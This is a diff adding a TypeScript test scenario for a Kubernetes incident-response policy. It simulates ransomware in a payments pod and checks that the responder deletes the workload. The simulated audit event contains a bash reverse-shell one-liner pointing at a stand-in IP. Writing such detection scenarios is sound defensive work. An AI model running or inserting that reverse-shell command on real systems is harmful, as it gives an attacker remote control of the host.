@@ -1,0 +1,49 @@
+import { fileURLToPath } from 'node:url';
+import { timeOf } from '../../shared/model/time.ts';
+import { SHOP } from '../world/seed.ts';
+import { auditEntry } from './audit-entry.ts';
+import type { Scenario } from './scenario.ts';
+import { podOf } from './shop.ts';
+
+const NAMESPACE = 'payments';
+const APP = 'ledger';
+
+/** Somebody encrypts the payments: the policy deletes the workload by itself, and waits for no evidence. */
+export const ransom: Scenario = {
+  id: 'ransom',
+  title: 'Ransomware among the payments',
+  story: [
+    'ana@example.com, whose laptop was stolen, opens a reverse shell in a pod of StatefulSet payments/ledger and encrypts what it reaches.',
+    'This policy says: stop first, and delete the workload without asking.',
+  ],
+  policy: fileURLToPath(new URL('ransom.policy.yaml', import.meta.url)),
+  events: (world, now) => [
+    {
+      afterMs: 0,
+      topic: 'audit-log',
+      body: auditEntry({
+        ...SHOP,
+        at: timeOf(now),
+        verb: 'create',
+        resource: 'pods',
+        subresource: 'exec',
+        namespace: NAMESPACE,
+        name: podOf(world, NAMESPACE, ['app', APP]).metadata.name,
+        command: 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+      }),
+    },
+  ],
+  missing: (incidents) => {
+    const incident = incidents.find(({ target }) => target.namespace === NAMESPACE);
+    if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
+    const { decision, goal, journal } = incident;
+    // The deletion is watched for two minutes more, in case something makes the workload again: the story ends before.
+    const deletion = journal.find(({ step }) => step === 'delete-workload');
+    const found = decision === null ? 'none' : `${decision.verdict}: ${decision.tier}`;
+    return [
+      ...(found === 'act: delete-workload' ? [] : [`expected the decision act: delete-workload, found ${found}`]),
+      ...(goal?.stopFirst === true ? [] : ['the goal does not say stopFirst']),
+      ...(deletion?.because?.startsWith('deleted') === true ? [] : ['the workload is not deleted']),
+    ];
+  },
+};
